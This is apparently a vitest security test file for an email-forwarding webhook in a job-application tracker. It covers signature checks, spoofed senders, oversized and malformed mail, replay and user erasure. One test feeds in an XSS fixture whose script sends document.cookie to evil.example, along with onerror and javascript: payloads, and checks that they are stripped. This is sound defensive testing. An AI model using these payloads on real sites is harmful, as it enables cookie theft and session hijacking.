import { describe, expect, it } from 'vitest';
import { createKysely } from '@jobgraph/db';
import { sql } from 'kysely';
import type { Database } from '../../src/db/types.ts';
import { forgetUser } from '../../src/domain/forget-user.ts';
import { emailEnv, fixture, message, useEmailSubgraph, webhooks } from './mail.ts';

const secrets = { raw: 'raw-secret-hostile-0123456789', postmark: 'postmark-secret-hostile-0123', mailgun: 'mailgun-key-hostile-0123456789' };
// INBOUND_EMAIL_MAX_BYTES left at its default: 10 MiB.
const subgraph = useEmailSubgraph(emailEnv(secrets));
const baseUrl = () => subgraph.harness.service.url.replace(/\/graphql$/, '');
const hooks = () => webhooks(baseUrl(), secrets);

interface Inbox {
  emailForwarding: { address: string; refusedCount: number };
  inboundEmails: { edges: { node: { status: string; text: string | null; sender: string; classification: string | null; attachmentCount: number; application: { id: string; history: unknown[] } | null } }[] };
  applications: { edges: { node: { id: string } }[] };
}

function person() {
  const self = subgraph.candidate();
  const view = async (): Promise<Inbox> => {
    const result = await self.request<{ _entities: Inbox[] }>(
      `query ($r: [_Any!]!) { _entities(representations: $r) { ... on User {
        emailForwarding { address refusedCount }
        inboundEmails(first: 100) { edges { node { status text sender classification attachmentCount application { id history { changedAt } } } } }
        applications(first: 100) { edges { node { id } } } } } }`,
      { r: [{ __typename: 'User', id: self.id }] },
    );
    const data = result.data?._entities[0];
    if (!data) throw new Error(JSON.stringify(result.errors));
    return data;
  };
  return {
    ...self,
    view,
    address: async () => (await view()).emailForwarding.address,
    inbox: async () => (await view()).inboundEmails.edges.map((e) => e.node),
    trust: (sender: string) => self.request('mutation ($s: String!) { addTrustedSender(input: { sender: $s }) { errors { code } } }', { s: sender }),
  };
}

const postmarkPayload = (to: string, from: { Email: string; Name: string }, subject: string, text: string) => ({
  FromFull: from,
  ToFull: [{ Email: to, Name: '' }],
  Subject: subject,
  MessageID: crypto.randomUUID(),
  Date: 'Tue, 14 Oct 2025 09:00:00 +0000',
  TextBody: text,
  HtmlBody: '',
  Attachments: [],
});

describe('webhook authentication', () => {
  it('refuses a forged, stale or replayed Mailgun signature and records nothing', async () => {
    const ada = person();
    const to = await ada.address();
    const fields = { recipient: to, from: 'Contoso Careers <contoso@myworkday.com>', To: to, subject: 'Application received', 'body-plain': 'Thank you for applying. We have received your application for Data Analyst at Contoso.' };

    expect(await hooks().mailgun(fields, { key: 'someone-elses-signing-key-000000' })).toMatchObject({ status: 401 });
    expect(await hooks().mailgun(fields, { signature: 'f'.repeat(64) })).toMatchObject({ status: 401 });
    expect(await hooks().mailgun(fields, { timestamp: Math.floor(Date.now() / 1000) - 3600 })).toMatchObject({ status: 401, body: { error: expect.stringContaining('timestamp') } });
    expect(await ada.inbox()).toEqual([]);

    const token = 'a'.repeat(50);
    expect(await hooks().mailgun(fields, { token })).toEqual({ status: 200, body: { deliveries: [{ status: 'applied', duplicate: false }] } });
    expect(await hooks().mailgun({ ...fields, subject: 'Changed subject' }, { token })).toMatchObject({ status: 401, body: { error: expect.stringContaining('used already') } });
    expect(await ada.inbox()).toHaveLength(1);
  });

  it('takes Postmark only with its Basic credentials or URL token, compared in full', async () => {
    const ada = person();
    const to = await ada.address();
    const payload = postmarkPayload(to, { Email: 'no-reply@hire.lever.co', Name: 'BrightPath' }, 'Your application to BrightPath', 'Thank you for applying to the Product Designer position at BrightPath. We have received your application.');
    expect(await hooks().postmark(payload, {})).toMatchObject({ status: 401 });
    expect(await hooks().postmark(payload, { basic: secrets.postmark.slice(0, -1) })).toMatchObject({ status: 401 });
    expect(await hooks().postmark(payload, { basic: `${secrets.postmark}x` })).toMatchObject({ status: 401 });
    expect(await hooks().postmark(payload, { token: 'wrong-token-wrong-token' })).toMatchObject({ status: 401 });
    expect(await ada.inbox()).toEqual([]);
    expect(await hooks().postmark(payload, { token: secrets.postmark })).toEqual({ status: 200, body: { deliveries: [{ status: 'applied', duplicate: false }] } });
    expect(await hooks().postmark({ nonsense: true })).toMatchObject({ status: 400 });
  });

  it('takes raw messages only with the shared secret', async () => {
    const ada = person();
    const raw = fixture('workday-confirmation-contoso', await ada.address());
    expect(await hooks().raw(raw, 'not-the-secret-not-the-secret')).toMatchObject({ status: 401 });
    const noAuth = await fetch(`${baseUrl()}/webhooks/inbound-email/raw`, { method: 'POST', body: raw });
    expect(noAuth.status).toBe(401);
    const get = await fetch(`${baseUrl()}/webhooks/inbound-email/raw`);
    expect(get.status).toBe(405);
    expect(await ada.inbox()).toEqual([]);
  });
});

describe('hostile mail', () => {
  it('refuses and counts a trusted sender spoofed in the display name only, and never applies it', async () => {
    const ada = person();
    const to = await ada.address();
    const spoof = fixture('greenhouse-offer-letter-quanta', to, '"no-reply@us.greenhouse-mail.io" <no-reply@greenhouse.io.evil.example>');
    expect((await hooks().raw(spoof)).body.deliveries).toEqual([{ status: 'refused', duplicate: false }]);
    const viaPostmark = postmarkPayload(to, { Email: 'hr@evil.example', Name: 'no-reply@hire.lever.co' }, 'Offer', 'We are pleased to offer you the position.');
    expect((await hooks().postmark(viaPostmark)).body.deliveries).toEqual([{ status: 'refused', duplicate: false }]);
    const view = await ada.view();
    expect(view.emailForwarding.refusedCount).toBe(2);
    expect(view.applications.edges).toEqual([]);
    expect(view.inboundEmails.edges.map((e) => e.node)).toEqual([
      expect.objectContaining({ status: 'REFUSED', classification: null, text: null, application: null, sender: 'hr@evil.example' }),
      expect.objectContaining({ status: 'REFUSED', classification: null, text: null, application: null, sender: 'no-reply@greenhouse.io.evil.example' }),
    ]);
  });

  it('refuses mail sent to another user forwarding address by a sender that user does not trust', async () => {
    const ada = person();
    const grace = person();
    await ada.trust('oakstone.io');
    const graces = await grace.address();
    const offer = fixture('direct-offer-oakstone', `${await ada.address()}, ${graces}`);
    expect((await hooks().raw(offer)).body.deliveries?.map((d) => d.status).sort()).toEqual(['applied', 'refused']);
    expect((await grace.view()).applications.edges).toEqual([]);
    expect((await grace.inbox()).map((m) => m.status)).toEqual(['REFUSED']);
    expect((await ada.inbox()).map((m) => m.status)).toEqual(['APPLIED']);
  });

  it('refuses a 25 MB message with 413 (the limit is 10 MiB) and records nothing', async () => {
    const ada = person();
    const huge = Buffer.concat([Buffer.from(message({ From: 'no-reply@greenhouse.io', To: await ada.address(), Subject: 'big' }, '')), Buffer.alloc(25 * 1024 * 1024, 'a')]);
    const answer = await hooks().raw(huge);
    expect(answer.status).toBe(413);
    expect(await ada.inbox()).toEqual([]);
  });

  it('records malformed MIME and broken encodings as far as they parse, never failing the request', async () => {
    const ada = person();
    const to = await ada.address();
    const broken = [
      `From: no-reply@greenhouse.io\r\nTo: ${to}\r\nSubject: =?UTF-8?B?!!notbase64?=\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain; charset=bogus-charset\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@@\r\n--x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nBroken =Z1 escape and NUL \u0000 byte. Unfortunately we will not move forward.\r\n`,
      `From: no-reply@greenhouse.io\r\nTo: ${to}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\u00ff\u00fe invalid \udc00 utf-8 \u0080\u0081`,
    ];
    for (const raw of broken) expect((await hooks().raw(raw)).status).toBe(200);
    const inbox = await ada.inbox();
    expect(inbox).toHaveLength(2);
    for (const m of inbox) expect(m.text).not.toContain('\u0000');
  });

  it('stores HTML with scripts as text that holds no executable markup', async () => {
    const ada = person();
    const to = await ada.address();
    const html = `<html><body><script>document.location='https://evil.example/?c='+document.cookie</script><p onmouseover="alert(1)">Thank you for applying to the Analyst role at Contoso. We have received your application.</p><img src=x onerror=alert(2)><a href="javascript:alert(3)">Status</a><svg onload=alert(4)></svg><iframe srcdoc="<script>alert(5)</script>"></iframe></body></html>`;
    const raw = `From: Contoso <contoso@myworkday.com>\r\nTo: ${to}\r\nSubject: Application received\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}`;
    expect((await hooks().raw(raw)).status).toBe(200);
    const [stored] = await ada.inbox();
    expect(stored?.text).toContain('Thank you for applying to the Analyst role at Contoso.');
    expect(stored?.text).not.toMatch(/<\s*\/?\s*(script|img|svg|iframe|a|p)\b|javascript:|onerror|onload|onmouseover|document\.cookie/i);
  });

  it('gives the same message replayed concurrently exactly one effect', async () => {
    const ada = person();
    const raw = fixture('ashby-confirmation-quanta', await ada.address());
    const answers = await Promise.all(Array.from({ length: 8 }, () => hooks().raw(raw)));
    expect(answers.every((a) => a.status === 200)).toBe(true);
    const deliveries = answers.flatMap((a) => a.body.deliveries ?? []);
    expect(deliveries.filter((d) => !d.duplicate)).toEqual([{ status: 'applied', duplicate: false }]);
    expect(deliveries.filter((d) => d.duplicate)).toHaveLength(7);
    const view = await ada.view();
    expect(view.applications.edges).toHaveLength(1);
    expect(view.inboundEmails.edges).toHaveLength(1);
    expect(view.inboundEmails.edges[0]?.node.application?.history).toHaveLength(1);

    const db = createKysely<unknown>({ url: subgraph.database.urlFor('pipeline') });
    try {
      const { rows } = await sql<{ type: string }>`select type from outbox where envelope->'data'->>'userId' = ${ada.id}`.execute(db);
      expect(rows.map((r) => r.type).sort()).toEqual(['jobgraph.pipeline.application.created.v1', 'jobgraph.pipeline.inbound-email.processed.v1']);
    } finally {
      await db.destroy();
    }
  });
});

describe('erasure', () => {
  it('forgets a user’s received mail, trusted senders and forwarding address, so mail to it reaches nobody', async () => {
    const ada = person();
    const to = await ada.address();
    await ada.trust('oakstone.io');
    await hooks().raw(fixture('direct-offer-oakstone', to));
    const db = createKysely<Database>({ url: subgraph.database.urlFor('pipeline') });
    try {
      await db.transaction().execute((trx) => forgetUser(trx, ada.id));
      const left = await Promise.all(
        (['parsed_emails', 'trusted_senders', 'email_forwarding_addresses', 'applications'] as const).map((table) => db.selectFrom(table).select('user_id').where('user_id', '=', ada.id).execute()),
      );
      expect(left.map((rows) => rows.length)).toEqual([0, 0, 0, 0]);
    } finally {
      await db.destroy();
    }
    expect(await hooks().raw(fixture('direct-offer-oakstone', to).replace('Offer - Staff', 'Offer again - Staff'))).toEqual({ status: 200, body: { deliveries: [] } });
  });
});
